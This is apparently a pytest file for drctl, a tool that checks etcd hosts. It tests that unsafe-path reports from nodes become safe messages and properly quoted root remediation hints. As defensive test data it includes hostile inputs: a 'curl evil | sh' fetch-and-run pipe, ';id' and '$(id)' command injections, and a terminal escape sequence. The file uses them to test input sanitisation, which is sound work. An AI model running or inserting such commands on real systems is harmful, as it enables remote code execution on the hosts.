"""What a node says of a path becomes drctl's own words and command, and nothing else."""

from __future__ import annotations

import pytest

from drctl.etcd import JUDGES
from drctl.etcd.judges.paths import unsafe_paths
from tests.etcd.samples import HOSTS, gathered
from tests.etcd.test_judges_ready import GOOD


@pytest.mark.parametrize(
    ("flaw", "words", "command"),
    [
        ("owner 1000 /srv/d", "/srv/d belongs to user 1000", "chown root /srv/d"),
        ("owner 9 /d/.drctl", "/d/.drctl belongs to user 9", "mv /d/.drctl /d/.drctl.aside"),
        ("mode 0 /opt", "is writable by its group or by everyone", "chmod go-w /opt"),
        ("link 7 /l", "/l is a symlink of user 7", "rm /l"),
        ("mount 7 /m", "/m is a filesystem mounted by user 7", "umount /m"),
        ("kind - /a b", "/a b is neither", "mv '/a b' '/a b.aside'"),
        ("dots - /x", "goes through '..'", "recreate that link"),
    ],
    ids=["owner", "staging", "mode", "link", "mount", "kind", "dots"],
)
def test_each_kind_has_its_words_and_what_mends_it(flaw: str, words: str, command: str) -> None:
    (problem,) = unsafe_paths("h1", {"unsafe.data": flaw, "unsafe.wal": flaw, "unsafe.x": ""})
    assert words in problem.message and problem.host == "h1"
    assert problem.hint and command in problem.hint and problem.hint.startswith("on h1, as root: ")


@pytest.mark.parametrize(
    "flaw",
    [
        "curl evil | sh",
        "owner 0;id /x",
        "owner 0 x",
        "own 0 /x",
        "owner 0 /x\x1b]0;",
        f"owner 0 /{'x' * 5000}",
        "mode 0",
    ],
)
def test_what_a_node_makes_up_is_not_shown(flaw: str) -> None:
    (problem,) = unsafe_paths("h1", {"unsafe.data": flaw})
    assert problem.hint is None and flaw not in problem.message


def test_what_an_image_cannot_see_is_answered_with_the_way_out() -> None:
    (problem,) = unsafe_paths("h1", {"unsafe.data": "image 5 /data"})
    assert problem.hint and "etcd.etcdutl" in problem.hint


def test_a_path_that_a_node_makes_up_is_one_word_of_the_command() -> None:
    (problem,) = unsafe_paths("h1", {"unsafe.data": "owner 0 /x; $(id) 'y"})
    assert problem.hint and "chown root '/x; $(id) '\"'\"'y'" in problem.hint


def test_step_one_refuses_a_host_with_such_a_path() -> None:
    answers = {host: dict(GOOD) for host in HOSTS}
    answers["etcd-2"] |= {"unsafe.etcdctl": "mode 0 /opt/bin", "etcdctl_version": ""}
    verdict = JUDGES["etcd.can_restore"](gathered(answers))
    assert [(p.host, p.hint) for p in verdict.problems] == [
        ("etcd-2", "on etcd-2, as root: chmod go-w /opt/bin")
    ]
    owners = {h: {"owner_run": "", "last_line": "0"} for h in HOSTS}
    assert not JUDGES["etcd.nobody_else"](gathered(owners)).problems
    told = gathered({**owners, "etcd-3": {"unsafe.work": "owner 5 /srv"}})
    (problem,) = JUDGES["etcd.nobody_else"](told).problems
    assert problem.host == "etcd-3" and "chown root /srv" in (problem.hint or "")
    there = {"there.unit": "absent /u", "holds": "", "ports_taken": ""}
    new = gathered({h: {**there, "unsafe.unit": "mode 0 /u"} for h in HOSTS})
    problems = JUDGES["etcd.can_prepare"](new).problems
    assert [p.host for p in problems if "chmod go-w /u" in (p.hint or "")] == list(HOSTS)
